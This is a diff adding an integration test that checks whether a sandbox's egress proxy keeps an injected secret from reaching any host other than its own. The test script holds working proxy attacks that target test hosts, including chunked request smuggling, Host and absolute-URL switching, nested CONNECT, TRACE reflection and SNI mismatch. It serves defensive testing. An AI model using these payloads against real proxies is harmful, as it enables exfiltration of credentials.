@@ -7,6 +7,8 @@ name no other test uses.
 
 from __future__ import annotations
 
+import json
+import shutil
 import uuid
 from collections.abc import Iterator
 from pathlib import Path
@@ -15,8 +17,8 @@ import pytest
 
 from cci_builtin_plugins.incus.driver import IncusDriver
 from tests.integration.conftest import run_cci
-from tests.integration.test_proxy_egress import PROXY_IMAGE
-from tests.network_hosts import INTERNET_HOSTS
+from tests.integration.test_proxy_egress import LOCK_WAIT, PROXY_IMAGE
+from tests.network_hosts import INTERNET_HOSTS, TestHosts
 from tests.workspace_config import write_trusted
 
 pytestmark = pytest.mark.incus
@@ -67,3 +69,119 @@ def test_many_connections_held_by_one_agent_leave_the_proxy_answering(
                      cwd=workspace, timeout=300)
     assert result.returncode == 0, result.stderr
     assert "answer: HTTP/1.1 403 Forbidden" in result.stdout, result.stdout
+
+
+# --- a secret's real value toward any other host: attacks that must keep failing ------------------------------------
+
+SECRET_HOST, OTHER_HOST = "attack-api.ccit.test", "attack-other.ccit.test"
+
+#: inside: each attack on the secret (its placeholder in $ATTACK_TOKEN) prints one line "LABEL<TAB>what came back"
+SECRET_ATTACKS = r'''
+import json, os, socket, ssl, sys
+PH, API, OTHER = os.environ["ATTACK_TOKEN"], sys.argv[1], sys.argv[2]
+AUTH = f"Authorization: Bearer {PH}\r\n"
+
+def read(sock):
+    data = b""
+    try:
+        while len(data) < 100000:
+            chunk = sock.recv(65536)
+            if not chunk:
+                break
+            data += chunk
+    except OSError as exc:
+        data += f"<{type(exc).__name__}>".encode()
+    return data
+
+def plain(request):
+    sock = socket.create_connection(("127.0.0.1", 3128), timeout=5)
+    sock.sendall(request.encode())
+    return read(sock)
+
+def tunnel(request, target=API, sni=API):
+    sock = socket.create_connection(("127.0.0.1", 3128), timeout=5)
+    sock.sendall(f"CONNECT {target}:443 HTTP/1.1\r\nHost: {target}:443\r\n\r\n".encode())
+    head = b""
+    while b"\r\n\r\n" not in head and (byte := sock.recv(1)):
+        head += byte
+    if b" 200 " not in head.split(b"\r\n")[0]:
+        return head
+    context = ssl.create_default_context(cafile="/etc/cci/ca-certificates.crt")
+    context.load_verify_locations("/workspace/ccit-ca.pem")
+    try:
+        secure = context.wrap_socket(sock, server_hostname=sni)
+        secure.sendall(request.encode())
+        return read(secure)
+    except OSError as exc:
+        return f"<{type(exc).__name__}>".encode()
+
+END = "Connection: close\r\n\r\n"
+attacks = {
+    "trace answered by the proxy": tunnel(f"TRACE / HTTP/1.1\r\nHost: {API}\r\nMax-Forwards: 0\r\n{AUTH}{END}"),
+    "options answered by the proxy": tunnel(f"OPTIONS * HTTP/1.1\r\nHost: {API}\r\nMax-Forwards: 0\r\n{AUTH}{END}"),
+    "other Host header in its session": tunnel(f"GET / HTTP/1.1\r\nHost: {OTHER}\r\n{AUTH}{END}"),
+    "other absolute URL in its session": tunnel(f"GET https://{OTHER}/ HTTP/1.1\r\nHost: {API}\r\n{AUTH}{END}"),
+    "CONNECT in its session": tunnel(f"CONNECT {OTHER}:443 HTTP/1.1\r\nHost: {OTHER}:443\r\n{AUTH}\r\n"),
+    "second request for another host": tunnel(f"GET /1 HTTP/1.1\r\nHost: {API}\r\n\r\n"
+                                              f"GET /2 HTTP/1.1\r\nHost: {OTHER}\r\n{AUTH}{END}"),
+    "smuggled behind chunked": tunnel(f"POST / HTTP/1.1\r\nHost: {API}\r\nTransfer-Encoding: chunked\r\n"
+                                      f"Content-Length: 80\r\n\r\n0\r\n\r\n"
+                                      f"GET / HTTP/1.1\r\nHost: {OTHER}\r\n{AUTH}\r\n"),
+    "its session's TLS to another host": tunnel(f"GET / HTTP/1.1\r\nHost: {API}\r\n{AUTH}{END}", target=OTHER),
+    "another host by plain HTTPS URL": plain(f"GET https://{OTHER}/ HTTP/1.1\r\nHost: {OTHER}\r\n{AUTH}{END}"),
+    "cache manager": plain(f"GET http://127.0.0.1:3128/squid-internal-mgr/menu HTTP/1.1\r\nHost: x\r\n{AUTH}{END}"),
+    "its own host (the echo)": tunnel(f"GET /own HTTP/1.1\r\nHost: {API}\r\n{AUTH}{END}"),
+}
+for label, answer in attacks.items():
+    print(json.dumps([label, answer.decode("latin-1")]))
+'''
+
+#: what each attack got back (after the CONNECT's 200 for those in a TLS session): squid's own answer, its refusal,
+#: a TLS session cut (the server name is not the CONNECT's), or the other host's echo of the placeholder
+EXPECTED: dict[str, str | tuple[str, ...]] = {
+    "trace answered by the proxy": "Authorization: ** NOT DISPLAYED **",
+    "options answered by the proxy": "501 Not Implemented",
+    "other Host header in its session": "403 Forbidden",
+    "other absolute URL in its session": "403 Forbidden",
+    "CONNECT in its session": "403 Forbidden",
+    "second request for another host": "403 Forbidden",
+    "smuggled behind chunked": "403 Forbidden",
+    "its session's TLS to another host": ("<SSLEOFError>", "<ConnectionResetError>"),
+    "another host by plain HTTPS URL": '"Bearer cci-placeholder-',
+    "cache manager": "403 Forbidden",
+}
+
+
+def test_a_secret_goes_to_no_other_host_whatever_the_agent_sends(
+        claude_environ: dict[str, str], driver: IncusDriver, tmp_path: Path) -> None:
+    """The proxy answering by itself (TRACE and OPTIONS with Max-Forwards: 0), another host named inside the
+    secret's TLS session (Host, absolute URL, CONNECT, a pipelined or smuggled request), another host's TLS
+    session, squid's own pages: the placeholder at most, never the value; toward its own host the value (the
+    test host sends it back: the check that the attacks ran on a working secret)."""
+    real = f"attack-real-{uuid.uuid4().hex}"
+    with TestHosts(wait=LOCK_WAIT) as hosts:
+        workspace = tmp_path / "ws"
+        workspace.mkdir()
+        write_trusted(workspace, f'[network]\nmode = "proxy"\nallowed_domains = ["{SECRET_HOST}", "{OTHER_HOST}"]\n'
+                                 f'hosts = {{ "{SECRET_HOST}" = "{INTERNET_HOSTS[0]}", '
+                                 f'"{OTHER_HOST}" = "{INTERNET_HOSTS[1]}" }}\n'
+                                 f'proxy_trust_ca = "{hosts.ca_file}"\nproxy_image = "{PROXY_IMAGE}"\n'
+                                 f'[secrets]\nenv = ["ATTACK_TOKEN"]\nhosts = {{ ATTACK_TOKEN = ["{SECRET_HOST}"] }}\n')
+        shutil.copy(hosts.ca_file, workspace / "ccit-ca.pem")
+        (workspace / "attacks.py").write_text(SECRET_ATTACKS)
+        try:
+            result = run_cci("run", "--", "python3", "/workspace/attacks.py", SECRET_HOST, OTHER_HOST,
+                             env={**claude_environ, "ATTACK_TOKEN": real}, cwd=workspace, timeout=300)
+        finally:
+            for network in driver.policy_networks():
+                if SECRET_HOST in network.plan.settings.get("allowed_domains", []):
+                    run_cci("network", "delete", network.name, env=claude_environ)
+    assert result.returncode == 0, result.stderr
+    answers = dict(json.loads(line) for line in result.stdout.splitlines() if line.startswith("["))
+    own = answers.pop("its own host (the echo)")
+    assert f'"Bearer {real}"' in own, own
+    assert {label: real in answer for label, answer in answers.items()} == dict.fromkeys(EXPECTED, False), answers
+    # each attack got what shows it was stopped where it should be (not, say, a client error before it was sent)
+    got = {label: any(want in answer for want in ((EXPECTED[label],) if isinstance(EXPECTED[label], str) else
+                                               EXPECTED[label])) for label, answer in answers.items()}
+    assert got == dict.fromkeys(EXPECTED, True), answers
